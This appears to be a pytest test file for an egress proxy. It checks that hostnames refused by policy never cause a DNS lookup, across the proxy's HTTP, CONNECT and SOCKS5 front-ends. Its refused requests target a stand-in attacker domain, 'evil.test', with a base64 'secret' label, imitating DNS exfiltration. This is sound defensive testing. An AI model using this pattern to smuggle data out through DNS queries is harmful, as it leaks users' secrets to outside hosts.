"""No lookup decides nothing, on the wire (issue 32): a name the policy can never allow costs
no DNS query, through every front-end.

A real DNS server of ours (`dnslog.QueryLog`, UDP on the root side of a test host's veth, a
198.18.0.0/15 address) records every query it receives. `egress serve` runs inside the test
host's namespace, where `ip netns exec` puts our resolv.conf (that server) and nsswitch.conf
(`files dns`) in place: the proxy's lookups are glibc's own `getaddrinfo`, exactly as in the
issue's repro (`--allow github.test --allow 203.0.113.7:22`, a CONNECT to a name the agent
chose, and the resolver logged that name). Each policy shape of the issue is served and asked
by CONNECT, absolute-form HTTP and SOCKS5 with a remote name; refused names carry the shape
and front in their first label, and the log must hold none of them, while an allowed name is
still resolved and served. The transparent mode and the DNS responder are in
`test_no_lookup_transparent.py`.

Address rules here name 198.19.255.0/24 (the benchmark range, on no test host) and the
issue's reserved shapes; nothing is ever dialed there: every such request is refused.
"""

from __future__ import annotations

import asyncio
import shutil
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

import harness
from dnslog import QueryLog
from proxykit import raw_exchange

pytestmark = pytest.mark.netns

EVIL = "evil.test"
ALLOWED = "github.test"


@dataclass
class Wire:
    """A test host with our resolver configured for processes run in it, the query log, and
    an origin (on the root side of the veth) that the allowed name resolves to."""

    host: harness.TestHost
    log: QueryLog
    origin_port: int
    tmp: Path
    seen: list[bytes] = field(default_factory=list)


@pytest.fixture
async def wire(test_host: harness.TestHost, tmp_path: Path) -> AsyncIterator[Wire]:
    loop = asyncio.get_running_loop()
    log = QueryLog({ALLOWED: test_host.addr_root})
    transport, _ = await loop.create_datagram_endpoint(
        lambda: log, local_addr=(test_host.addr_root, 53)
    )
    seen: list[bytes] = []

    async def origin(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        seen.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(origin, test_host.addr_root, 0)
    etc = Path("/etc/netns") / test_host.ns
    etc.mkdir(parents=True)
    (etc / "resolv.conf").write_text(
        f"nameserver {test_host.addr_root}\noptions attempts:1 timeout:2\n"
    )
    (etc / "nsswitch.conf").write_text("hosts: files dns\n")
    try:
        port = server.sockets[0].getsockname()[1]
        yield Wire(test_host, log, port, tmp_path, seen)
    finally:
        server.close()
        transport.close()
        shutil.rmtree(etc, ignore_errors=True)


async def serve_in(w: Wire, *args: str) -> tuple[asyncio.subprocess.Process, int, int]:
    """`egress serve` inside the test host: (process, HTTP port, SOCKS5 port)."""
    proc = await asyncio.create_subprocess_exec(
        "ip", "netns", "exec", w.host.ns, sys.executable, "-m", "egress.cli", "serve",
        "--quiet", "--listen", f"{w.host.addr_ns}:0", "--socks", f"{w.host.addr_ns}:0",
        *args, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    assert proc.stdout is not None
    ports = []
    for _ in range(2):
        line = (await asyncio.wait_for(proc.stdout.readline(), 30)).decode().strip()
        assert line.startswith("listening on "), line
        ports.append(int(line.split()[2].rsplit(":", 1)[1]))
    return proc, ports[0], ports[1]


async def socks_connect(host: str, port: int, name: str, dport: int) -> int:
    """A SOCKS5 CONNECT to a remote name (address type 3): the reply code."""
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(b"\x05\x01\x00")
        assert await reader.readexactly(2) == b"\x05\x00"
        raw = name.encode()
        writer.write(b"\x05\x01\x00\x03" + bytes([len(raw)]) + raw + dport.to_bytes(2, "big"))
        reply = await asyncio.wait_for(reader.readexactly(2), 10)
        return reply[1]
    finally:
        writer.close()


@dataclass(frozen=True)
class Shape:
    args: tuple[str, ...]
    ports: tuple[int, ...] = (443,)  # CONNECT and SOCKS5 ports to try (plain HTTP: 80)
    policy: str | None = None  # a policy file's text, for the opt-in


SHAPES = {
    # the repro: an address rule on another port
    "addr22": Shape(("--allow", ALLOWED, "--allow", "198.19.255.7:22"), (443, 22)),
    # an https:// address rule, asked over plain HTTP (and CONNECT elsewhere)
    "httpsaddr": Shape(("--allow", ALLOWED, "--allow", "https://198.19.255.7"), (443,)),
    # an address the guard always refuses
    "loopback": Shape(("--allow", ALLOWED, "--allow", "127.0.0.1:8089"), (8089, 443)),
    # a private range under --reserve-private
    "private": Shape(("--allow", ALLOWED, "--allow", "10.0.0.0/8", "--reserve-private")),
    # an allow CIDR inside a block CIDR
    "blocked": Shape(
        ("--allow", ALLOWED, "--allow", "198.19.255.0/24", "--block", "198.19.255.0/24")
    ),
    # a name resolving into an allowed CIDR: an address rule admits addresses, not names
    "cidr": Shape(("--allow", ALLOWED, "--allow", "198.18.0.0/15")),
    # the opt-in, where no address rule covers the port asked
    "optin": Shape(
        ("--allow", ALLOWED),
        (443,),
        'resolve_names_for_address_rules = true\nallow = ["198.19.255.7:22"]\n',
    ),
}


async def test_a_refused_name_costs_no_query_on_any_front(wire: Wire) -> None:
    """Every shape in turn (one test: each needs root), each its own `egress serve`; the
    names asked carry the shape and the front, so the log says which one leaked."""
    refused: dict[str, object] = {}  # refused name -> what the front answered
    for label, shape in SHAPES.items():
        refused |= await ask_shape(wire, label, shape)
        leaked = sorted(n for n in wire.log.names() if n.endswith(EVIL))
        assert leaked == [], f"{label}: refused names were resolved: {leaked} ({refused})"
    for name, answer in refused.items():  # 403 from HTTP, 2 "not allowed by ruleset" in SOCKS5
        assert answer in (b"HTTP/1.1 403", 2), (name, answer)
    assert ALLOWED in wire.log.names(), wire.log.asked
    assert len(wire.seen) == len(SHAPES)  # the allowed name served under every shape
    assert all(b"GET /ok " in head for head in wire.seen)

    # the control: under the opt-in, a name on the port an address rule covers *is* resolved
    # (so the log would see a lookup), then refused as its address is outside the rule
    path = wire.tmp / "control.toml"
    path.write_text('resolve_names_for_address_rules = true\nallow = ["198.19.255.7:22"]\n')
    proc, http_port, _ = await serve_in(wire, "--policy", str(path))
    try:
        connect = f"CONNECT control22.{EVIL}:22 HTTP/1.1\r\n\r\n"
        reply = await raw_exchange(wire.host.addr_ns, http_port, connect.encode())
    finally:
        proc.terminate()
        await proc.wait()
    assert reply.startswith(b"HTTP/1.1 502"), reply[:80]  # dns_error: our server's NXDOMAIN
    assert f"control22.{EVIL}" in wire.log.names(), wire.log.asked


async def ask_shape(wire: Wire, label: str, shape: Shape) -> dict[str, object]:
    """Serve `shape`, ask refused names through each front and the allowed name once:
    {refused name: the front's answer} (the HTTP status line's start, or the SOCKS5 code)."""
    args = list(shape.args)
    if shape.policy is not None:
        path = wire.tmp / f"{label}.toml"
        path.write_text(shape.policy)
        args += ["--policy", str(path)]
    args += ["--allow", f"{ALLOWED}:{wire.origin_port}"]
    proc, http_port, socks_port = await serve_in(wire, *args)
    addr = wire.host.addr_ns
    answers: dict[str, object] = {}
    try:
        name = f"c2VjcmV0-{label}-http.{EVIL}"
        get = f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n"
        answers[name] = (await raw_exchange(addr, http_port, get.encode()))[:12]
        for port in shape.ports:
            name = f"c2VjcmV0-{label}-connect{port}.{EVIL}"
            connect = f"CONNECT {name}:{port} HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n"
            answers[name] = (await raw_exchange(addr, http_port, connect.encode()))[:12]
            name = f"c2VjcmV0-{label}-socks{port}.{EVIL}"
            answers[name] = await socks_connect(addr, socks_port, name, port)
        # an allowed name is still resolved (by glibc, through our server) and served
        get = (
            f"GET http://{ALLOWED}:{wire.origin_port}/ok HTTP/1.1\r\nHost: {ALLOWED}\r\n"
            "Connection: close\r\n\r\n"
        )
        allowed = await raw_exchange(addr, http_port, get.encode())
    finally:
        proc.terminate()
        await proc.wait()
    assert allowed.startswith(b"HTTP/1.1 200"), (label, allowed[:200])
    return answers
